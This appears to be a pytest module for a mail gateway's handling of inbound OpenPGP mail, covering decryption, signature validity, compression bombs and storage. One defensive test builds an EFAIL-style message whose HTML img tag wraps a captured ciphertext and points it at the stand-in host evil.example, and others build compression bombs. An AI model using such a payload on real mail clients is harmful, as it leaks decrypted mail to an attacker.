"""Threat: OpenPGP mail from outside shown wrongly: not at all, as signed by a hosted user
it does not come from, a clear part as if encrypted, or a bomb taking the portal.

The gateway publishes its users' keys (WKD, Autocrypt), so correspondents write to them
encrypted. The shape that once broke it: a PGP/MIME message over the MX, encrypted
(and signed) by GnuPG to the hosted user's key, was stored as not encrypted; the
webmail showed "Not encrypted" and two attachments, `attachment-0` (`Version: 1`) and
`attachment-1` (the armored ciphertext), and never decrypted it. Now a message that is
exactly one RFC 3156 encrypted message is stored as encrypted and opened like the
gateway's own, in the sandbox, within the `[limits]` and MIME bounds; its signature
counts as valid only when a key of the hosted address in From made it. Anything else
with an encrypted part in it (EFAIL's clear part beside the ciphertext) stays "Not
encrypted" and is never decrypted.
"""

from __future__ import annotations

import datetime as dt
import re
import smtplib
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway import db
from gateway.inbound import InboundServer
from gateway.pipeline import pgpmime
from gateway.runtime import Runtime
from keystore import packets, pgp, store
from tests.gnupg import GnuPG
from tests.keystore.gpgkeys import make_key
from tests.openpgp import encrypt
from tests.security.bombs import BZIP2, compression_bomb
from tests.webportal.webmail_support import ALICE, BOB, Webmail, rows, webmail_app
from webportal.i18n import translate
from webportal.mail import CANNOT_SHOW, SIGNATURES

DAVE = "dave@partner.example"
SECRET = "Zebra crossing at noon"


def text_of(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


@pytest.fixture
def bob_public(runtime: Runtime, mail_users: dict[str, str]) -> pgp.PublicKey:
    """Bob's key, as WKD serves it to correspondents."""
    with db.transaction(runtime.sessions) as session:
        row = store.get_or_create(
            session, runtime.ring.get(), BOB, dt.datetime.now(dt.UTC), events=lambda *_a: None
        )
        return store.parsed_public_key(row)


@pytest.fixture
def outsider(tmp_path: Path, bob_public: pgp.PublicKey) -> Iterator[GnuPG]:
    """A correspondent's GnuPG holding Bob's public key and keys of its own."""
    home = tmp_path / "outsider"
    home.mkdir(mode=0o700)
    gpg = GnuPG(home)
    gpg.import_key(bob_public.to_bytes())
    yield gpg


@pytest.fixture
def bob(runtime: Runtime) -> Webmail:
    return Webmail(webmail_app(runtime).test_client()).login(BOB)


def pgp_mime(sender: str, subject: str, armored: bytes, *, headers: str = "") -> bytes:
    return (
        (
            f"From: {sender}\r\nTo: {BOB}\r\nSubject: {subject}\r\n{headers}MIME-Version: 1.0\r\n"
            'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
            ' boundary="enc"\r\n\r\n'
            "--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
            "--enc\r\nContent-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + armored
        + b"\r\n--enc--\r\n"
    )


def encrypted_by(gpg: GnuPG, signer: str | None, *options: str) -> bytes:
    entity = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{SECRET}\r\n".encode()
    signing = ("--sign", "--local-user", signer) if signer else ()
    command = ("--armor", *options, *signing, "--encrypt", "--recipient", BOB)
    return gpg.run(*command, input=entity).stdout


def mx(inbound: InboundServer, sender: str, raw: bytes) -> int:
    """Deliver over the MX; the id of the message Bob now has."""
    with smtplib.SMTP("127.0.0.1", inbound.port, timeout=60) as client:
        assert client.sendmail(sender, [BOB], raw) == {}
    return rows(inbound.runtime, BOB)[-1].id


def test_encrypted_mail_from_outside_is_decrypted_for_its_reader(
    inbound: InboundServer, outsider: GnuPG, bob: Webmail
) -> None:
    dave_key = make_key(outsider, f"Dave <{DAVE}>")
    # A subject with an armor line in it does not lead the reader astray.
    subject = "-----BEGIN PGP MESSAGE----- figures"
    message_id = mx(inbound, DAVE, pgp_mime(DAVE, subject, encrypted_by(outsider, dave_key)))
    (row,) = rows(inbound.runtime, BOB)
    assert row.encrypted and row.search_text is None
    page = bob.get(f"/mail/{message_id}")
    assert page.status_code == 200
    shown = text_of(page.text)
    assert "Encrypted" in shown and "Not encrypted" not in shown
    assert SECRET in shown
    assert translate("en", SIGNATURES["unknown-key"]) in shown
    # A reply stays encrypted, with the text quoted.
    reply = bob.get(f"/compose?reply={message_id}")
    assert SECRET in reply.text


@pytest.mark.parametrize("signed", [True, False], ids=["signed by a look-alike", "unsigned"])
def test_mail_from_outside_naming_a_hosted_sender_is_never_shown_as_validly_signed(
    inbound: InboundServer, outsider: GnuPG, bob: Webmail, signed: bool
) -> None:
    """Alice's key is the keystore's: a key that merely says it is hers verifies nothing."""
    look_alike = make_key(outsider, f"Alice <{ALICE}>") if signed else None
    raw = pgp_mime(ALICE, "from Alice?", encrypted_by(outsider, look_alike))
    shown = text_of(bob.get(f"/mail/{mx(inbound, ALICE, raw)}").text)
    assert SECRET in shown
    assert translate("en", SIGNATURES["valid"]) not in shown
    status = "unknown-key" if signed else "unsigned"
    assert translate("en", SIGNATURES[status]) in shown


@pytest.mark.parametrize("revoked", ["compromised", "superseded", None])
def test_a_signature_by_a_revoked_hosted_key_is_never_valid(
    inbound: InboundServer,
    runtime: Runtime,
    bob_public: pgp.PublicKey,
    bob: Webmail,
    revoked: pgp.RevocationCode | None,
) -> None:
    """Whoever holds a hosted key an admin revoked (a lost laptop) signs nothing valid with
    it; a key merely rotated away still verifies what it signed."""
    now = dt.datetime.now(dt.UTC)
    with db.transaction(runtime.sessions) as session:
        row = store.get_or_create(session, runtime.ring.get(), ALICE, now, events=lambda *_a: None)
        old_secret = store.unlock_row(runtime.ring.get(), row)
        if revoked is not None:
            store.revoke(
                session,
                runtime.ring.get(),
                ALICE,
                "lost laptop",
                now,
                events=lambda *_a: None,
                code=revoked,
            )
        else:
            store.rotate(session, runtime.ring.get(), ALICE, now, events=lambda *_a: None)
    entity = f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode()
    raw = pgp_mime(ALICE, "old key", encrypt(entity, [bob_public], old_secret))
    shown = text_of(bob.get(f"/mail/{mx(inbound, ALICE, raw)}").text)
    assert SECRET in shown
    # The entity signs no header field: valid is "valid for the text only" at best.
    valid = translate("en", SIGNATURES["valid-text-only"])
    assert (valid in shown) is (revoked is None)
    assert translate("en", SIGNATURES["valid"]) not in shown


def test_a_clear_part_beside_an_encrypted_one_is_never_shown_as_encrypted(
    inbound: InboundServer, outsider: GnuPG, bob: Webmail
) -> None:
    """EFAIL's shape: clear HTML around a captured ciphertext, to have the reader decrypt
    it into a page whose markup sends it away."""
    armored = encrypted_by(outsider, None)
    raw = (
        (
            f"From: {DAVE}\r\nTo: {BOB}\r\nSubject: mixed\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n'
            '--mix\r\nContent-Type: text/html\r\n\r\n<p>Totally encrypted</p><img src="https://'
            "evil.example/x?\r\n"
            "--mix\r\n"
        ).encode()
        + pgp_mime(DAVE, "inner", armored).split(b"\r\n", 3)[3]
        + (b'\r\n--mix\r\nContent-Type: text/html\r\n\r\n">\r\n--mix--\r\n')
    )
    message_id = mx(inbound, DAVE, raw)
    assert not rows(inbound.runtime, BOB)[-1].encrypted
    page = bob.get(f"/mail/{message_id}")
    assert page.status_code == 200
    shown = text_of(page.text)
    assert "Not encrypted" in shown and SECRET not in shown
    assert "evil.example" not in page.text


def test_a_compression_bomb_from_outside_cannot_be_shown(
    inbound: InboundServer, bob_public: pgp.PublicKey, bob: Webmail
) -> None:
    limit = inbound.runtime.settings.limits.decrypt_max_bytes
    bomb = packets.armor(compression_bomb(bob_public, inflated=limit + 1024 * 1024))
    assert len(bomb) < 1024 * 1024
    message_id = mx(inbound, DAVE, pgp_mime(DAVE, "zeros", bomb))
    assert rows(inbound.runtime, BOB)[-1].encrypted
    page = bob.get(f"/mail/{message_id}")
    assert page.status_code == 422
    assert translate("en", CANNOT_SHOW) in page.text


@pytest.mark.parametrize("signed", [True, False], ids=["signed", "unsigned"])
def test_mail_compressed_with_bzip2_is_shown(
    inbound: InboundServer, outsider: GnuPG, bob: Webmail, tmp_path: Path, signed: bool
) -> None:
    """GnuPG compresses with BZip2 when told to (or when a key prefers it); Sequoia as
    pysequoia builds it reads no BZip2, and such mail could not be shown at all."""
    dave_key = make_key(outsider, f"Dave <{DAVE}>") if signed else None
    armored = encrypted_by(outsider, dave_key, "--compress-algo", "bzip2")
    # It really is BZip2: Bob's own gpg, given his secret key, lists the packets inside.
    with db.transaction(inbound.runtime.sessions) as session:
        row = store.get_or_create(
            session, inbound.runtime.ring.get(), BOB, dt.datetime.now(dt.UTC), events=print
        )
        secret = store.unlock_row(inbound.runtime.ring.get(), row)
    (tmp_path / "bob").mkdir(mode=0o700)
    bobs_gpg = GnuPG(tmp_path / "bob")
    bobs_gpg.import_key(pgp.secret_key_bytes(secret))
    assert "compressed packet: algo=3" in bobs_gpg.list_packets(armored)
    message_id = mx(inbound, DAVE, pgp_mime(DAVE, "bzip2", armored))
    assert rows(inbound.runtime, BOB)[-1].encrypted
    page = bob.get(f"/mail/{message_id}")
    assert page.status_code == 200
    shown = text_of(page.text)
    assert SECRET in shown and "Not encrypted" not in shown
    status = "unknown-key" if signed else "unsigned"
    assert translate("en", SIGNATURES[status]) in shown


def test_a_bzip2_bomb_from_outside_cannot_be_shown(
    inbound: InboundServer, bob_public: pgp.PublicKey, bob: Webmail
) -> None:
    limit = inbound.runtime.settings.limits.decrypt_max_bytes
    bomb = packets.armor(
        compression_bomb(bob_public, inflated=limit + 1024 * 1024, algorithm=BZIP2)
    )
    assert len(bomb) < 1024 * 1024
    message_id = mx(inbound, DAVE, pgp_mime(DAVE, "zeros", bomb))
    page = bob.get(f"/mail/{message_id}")
    assert page.status_code == 422
    assert translate("en", CANNOT_SHOW) in page.text


def test_a_message_to_many_keys_is_opened_or_refused_clearly(
    inbound: InboundServer, bob_public: pgp.PublicKey, bob: Webmail
) -> None:
    """Every recipient's session-key packet precedes the data: up to 64 are read."""
    now = dt.datetime.now(dt.UTC)
    others = [pgp.generate(f"r{n}@partner.example", now).public for n in range(70)]
    entity = f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode()
    for count, readable in ((40, True), (70, False)):
        armored = encrypt(entity, [*others[:count], bob_public])
        page = bob.get(f"/mail/{mx(inbound, DAVE, pgp_mime(DAVE, str(count), armored))}")
        assert page.status_code == 200
        assert (SECRET in page.text) is readable
        if not readable:
            assert "cannot be decrypted" in page.text


def test_the_stored_copy_is_what_came(inbound: InboundServer, outsider: GnuPG) -> None:
    """IMAP programs get the message as it came: only the trace field is added."""
    raw = pgp_mime(DAVE, "as it came", encrypted_by(outsider, None))
    mx(inbound, DAVE, raw)
    stored = rows(inbound.runtime, BOB)[-1].raw
    assert stored.endswith(raw) and stored.startswith(b"Received: ")
    assert pgpmime.encrypted_payload(stored) is not None
